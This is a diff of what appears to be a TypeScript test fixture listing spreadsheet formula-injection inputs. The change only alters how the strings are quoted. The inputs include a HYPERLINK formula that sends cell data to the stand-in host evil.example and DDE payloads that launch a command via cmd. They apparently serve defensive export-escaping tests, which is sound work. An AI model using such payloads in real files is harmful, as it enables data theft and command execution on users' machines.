@@ -12,9 +12,9 @@ const empty: CampaignState = { ...demo.setup, units: [], track: [], deadPile: []
 /** the names a spreadsheet would run as formulas, and the ones that only look alike */
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?"&A1,"click")',
-  '+cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   "'=already quoted",
